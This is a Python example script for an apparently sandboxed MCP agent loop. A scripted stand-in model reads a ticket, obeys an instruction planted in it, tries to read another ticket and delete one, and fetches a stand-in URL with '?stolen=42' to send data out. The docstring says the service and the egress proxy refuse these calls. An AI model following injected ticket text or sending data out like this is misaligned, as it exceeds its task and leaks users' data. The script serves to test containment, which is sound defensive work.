"""An agent loop over MCP that holds no token: its tools are called through the egress proxy of its task.

    sojourn task run --type triage-with-tools --param ticket=42 --proxy -- python docs/examples/agent_loop.py

mcp_server.py must be running. The model is scripted, in the place of one that costs money: it reads a ticket, believes
what stands in it, and tries what is outside of its task. The service refuses that, and the proxy what is elsewhere; the
loop tells the model so, as a real one would be told, and it goes on with what it may do.
"""

import asyncio
import os
from collections.abc import Generator
from typing import Any

import httpx2
from mcp import Client, MCPError

TOOLS = os.environ.get("TOOLS", "http://localhost:8092/mcp")


def model() -> Generator[tuple[str, dict[str, Any]], str | None, None]:
    """What a model would ask for next; it is sent what came of the last call."""
    found = yield "read_ticket", {"ticket": "42"}
    if found and "read ticket 1" in found:  # it was talked into that
        yield "read_ticket", {"ticket": "1"}
        yield "delete_ticket", {"ticket": "42"}
        yield "fetch", {"url": "http://elsewhere.example.org/?stolen=42"}
    yield "add_note", {"ticket": "42", "text": "asked the fire brigade"}


async def call(client: Client, name: str, arguments: dict[str, Any]) -> str:
    if name == "fetch":  # a tool of the loop's own
        async with httpx2.AsyncClient() as web:
            return (await web.get(arguments["url"])).text
    answer = await client.call_tool(name, arguments)
    return " ".join(part.text for part in answer.content if part.type == "text")


async def main() -> None:
    async with Client(TOOLS) as client:
        print("tools:", ", ".join(tool.name for tool in (await client.list_tools()).tools))
        asking = model()
        found: str | None = None
        while True:
            try:
                name, arguments = asking.send(found)
            except StopIteration:
                return
            try:
                found = await call(client, name, arguments)
            except (MCPError, httpx2.HTTPError) as error:
                found = f"refused: {error}"
            print(f"{name} {arguments} -> {found}", flush=True)


if __name__ == "__main__":
    asyncio.run(main())
